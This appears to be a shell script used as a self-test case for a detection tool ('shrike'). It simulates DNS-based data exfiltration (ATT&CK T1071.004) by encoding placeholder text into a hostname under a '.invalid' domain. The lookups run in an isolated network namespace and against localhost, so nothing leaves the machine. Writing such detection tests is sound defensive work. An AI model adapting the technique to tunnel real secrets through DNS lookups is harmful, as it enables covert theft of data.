#!/bin/sh
# rule: Names looked up that carry data
# technique: T1071.004
# case: encoded text is part of a name that is looked up
# needs: root, getent, unshare

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
# In a network without a way out, and of the file of names only: nothing is asked of anybody.
name=$(echo 'the first line of what is taken away, and more' | base64 -w 0 | tr -d '=/+' | cut -c 1-50)
unshare -n getent -s files hosts "$name.shrike-selftest.invalid"
command -v dig >/dev/null && dig +tries=1 +time=1 @127.0.0.1 -p 9 "$name.shrike-selftest.invalid" >/dev/null
true
